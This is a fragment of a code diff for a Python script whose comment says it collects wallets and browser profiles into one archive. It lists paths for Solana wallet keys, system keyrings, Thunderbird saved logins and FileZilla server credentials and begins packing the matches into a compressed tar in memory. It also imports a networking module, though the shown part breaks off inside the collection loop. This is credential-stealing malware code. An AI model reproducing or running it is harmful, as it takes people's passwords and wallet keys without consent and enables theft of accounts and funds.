@@ -1,7 +1,8 @@
 # class: collecting wallets and browser profiles into one archive
 import io, tarfile, socket
 from pathlib import Path
-want = ["*/.config/solana/id.json", "*/.local/share/keyrings/*", "*/.thunderbird/*/logins.json", "*/.config/filezilla/sitemanager.xml"]
+want = ["*/.config/solana/id.json", "*/.local/share/keyrings/*",
+        "*/.thunderbird/*/logins.json", "*/.config/filezilla/sitemanager.xml"]
 out = io.BytesIO()
 with tarfile.open(fileobj=out, mode="w:gz") as tar:
     for pattern in want:
